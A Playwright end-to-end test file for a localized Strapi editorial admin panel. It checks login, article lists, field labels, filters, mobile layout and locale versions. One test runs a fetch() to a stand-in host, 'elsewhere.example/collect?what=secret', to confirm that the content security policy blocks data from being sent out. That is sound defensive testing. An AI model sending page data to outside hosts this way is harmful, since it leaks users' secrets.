import type { Page } from 'playwright-core';
import { karabakhOperation } from '../../database/seeds/articles/karabakh-operation';
import { editionLocales } from '../../database/seeds/shapes';
import { fieldWords, findWords, type PanelLanguage } from '../../src/field-words';
import { articleView } from '../../src/setup/edit-views/article';
import { listenToConsole } from '../helpers/e2e-console';
import { findBarriers, phraseIn } from '../helpers/e2e-desk';
import {
  addressOf,
  closeBrowser,
  fromSetup,
  openArticle,
  openLogin,
  pickLocale,
  waitUntilLoggedIn,
} from '../helpers/e2e-panel';

afterAll(closeBrowser);

const shownTypes = ['Article', 'Author', 'Background', 'Illustration', 'Source'] as const;

/** Fields made of components: Strapi shows their labels and the hints of what is in them, never their own. */
const withoutHint = ['dateline', 'translation', 'corrections'];

describe.each<PanelLanguage>(['uk', 'en', 'ru'])('the panel in %s', (language) => {
  const words = fieldWords[language];
  let page: Page;
  let problems: string[];

  beforeAll(async () => {
    page = await openLogin({ language });
    problems = listenToConsole(page);
  }, 60_000);
  afterAll(() => page.context().close());

  test('lets an editor in through the form', async () => {
    await page.locator('input[name="email"]').fill(fromSetup('ADMIN_EMAIL'));
    await page.locator('input[name="password"]').fill(fromSetup('ADMIN_PASSWORD'));
    await page.locator('button[type="submit"]').click();

    await page.waitForURL(addressOf('/admin'));
    await waitUntilLoggedIn(page);
    await expectCleanPage();
  }, 60_000);

  test('lists the articles in its own words', async () => {
    await page.goto(addressOf('/admin/content-manager/collection-types/api::article.article?pageSize=100'));
    await page.getByRole('link', { name: karabakhOperation.headline.uk }).waitFor();

    const columns = findWords(words, 'api::article.article');
    const headings = page.getByRole('grid').getByRole('row').first();
    for (const name of articleView.list) {
      await headings.getByRole('gridcell', { name: columns[name]?.label, exact: true }).waitFor();
    }
    for (const type of shownTypes) {
      await page.getByRole('link', { name: words.names[type], exact: true }).waitFor();
    }
    await page.getByRole('heading', { level: 1, name: words.names.Article }).waitFor();
    await expectCleanPage();
  }, 60_000);

  test('says in a list and its filters what the values of an enumeration are', async () => {
    const path = '/admin/content-manager/collection-types/api::article.article';
    await page.goto(addressOf(`${path}?pageSize=100&filters[$and][0][genre][$eq]=${karabakhOperation.genre}`));
    const genre = words.options[karabakhOperation.genre] ?? '';
    const row = page.getByRole('row').filter({ hasText: karabakhOperation.headline.uk });
    await row.getByRole('gridcell', { name: genre, exact: true }).waitFor();
    const { label } = findWords(words, 'api::article.article').genre ?? {};
    await page.getByRole('button', { name: new RegExp(`^${label} .+ ${genre}$`) }).waitFor();
    await expectCleanPage();
  }, 60_000);

  test('keeps the desk within a narrow screen, as a list', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto(addressOf('/admin/plugins/copydesk'));
    const cards = page.getByRole('list', { name: phraseIn(language, 'desk.title') });
    const card = cards.getByRole('listitem').filter({ hasText: karabakhOperation.headline.uk }).first();
    await card.getByRole('link', { name: karabakhOperation.headline.uk }).waitFor();
    expect(await card.getByRole('list').getByRole('link').count()).toBe(editionLocales.length);
    expect(await findWide(page)).toEqual([]);
    expect(await findBarriers(page, '#main-content')).toEqual([]);
    await page.setViewportSize({ width: 1400, height: 1000 });
    await page.getByRole('grid').or(page.getByRole('table')).first().waitFor();
    await expectCleanPage();
  }, 60_000);

  test('labels and explains every field of an article', async () => {
    await openArticle(page, karabakhId(), 'uk');
    await page
      .getByRole('button', { name: `${words.names['sections.statement']} - ` })
      .first()
      .click();
    await page.getByRole('region', { name: `${words.names['sections.statement']} - ` }).waitFor();

    const text = await page.locator('#main-content').innerText();
    // Strapi writes how many entries a field has, and a star if it is required, behind the label.
    const lines = text.split('\n').map((line) => line.trim().replace(/(\s\(\d+\))?\*?$/, ''));
    for (const uid of ['api::article.article', 'editorial.dateline', 'sections.statement']) {
      for (const [name, { label, hint }] of Object.entries(words.fields[uid] ?? {})) {
        expect(lines).toContain(label);
        if (!withoutHint.includes(name)) expect(lines).toContain(hint);
      }
    }
    expect(lines).toContain(words.options[karabakhOperation.genre]);
    await expectCleanPage();
  }, 60_000);

  test('shows each version of the article in its own language', async () => {
    await openArticle(page, karabakhId(), 'uk');
    for (const [index, locale] of editionLocales.entries()) {
      if (index > 0) await pickLocale(page, editionLocales[index - 1] ?? 'uk', locale);
      await page.getByRole('heading', { level: 1, name: karabakhOperation.headline[locale], exact: true }).waitFor();
      expect(await page.locator('input[name="headline"]').inputValue()).toBe(karabakhOperation.headline[locale]);
      expect(await page.locator('textarea[name="lede"]').inputValue()).toBe(karabakhOperation.lede[locale]);
      await expectCleanPage();
    }
  }, 60_000);

  /** Nothing is shown by the key of its translation, and nothing of ours has complained in the console so far. */
  async function expectCleanPage() {
    expect(await page.locator('body').innerText()).not.toMatch(/content-manager\.|copydesk\./i);
    expect(problems).toEqual([]);
  }
});

test('nothing in the panel sends to another site what it reads', async () => {
  const page = await openLogin({ language: 'en' });
  const blocked = await page.evaluate(
    (address) =>
      new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
          resolve({ effectiveDirective, blockedURI }),
        );
        fetch(address).then(
          () => resolve('it was sent'),
          () => setTimeout(() => resolve('it was not sent, for another reason'), 2000),
        );
      }),
    'https://elsewhere.example/collect?what=secret',
  );
  expect(blocked).toEqual({
    effectiveDirective: 'connect-src',
    blockedURI: 'https://elsewhere.example/collect?what=secret',
  });
  await page.context().close();
}, 60_000);

/** What can only be read by scrolling sideways. */
function findWide(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    Array.from(document.querySelectorAll('#main-content, #main-content *'))
      .filter((element) => element.getBoundingClientRect().right > window.innerWidth + 1)
      .map((element) => element.outerHTML.slice(0, 160)),
  );
}

function karabakhId(): string {
  return JSON.parse(fromSetup('COPYDESK_SAMPLE_ARTICLES'))[karabakhOperation.key];
}
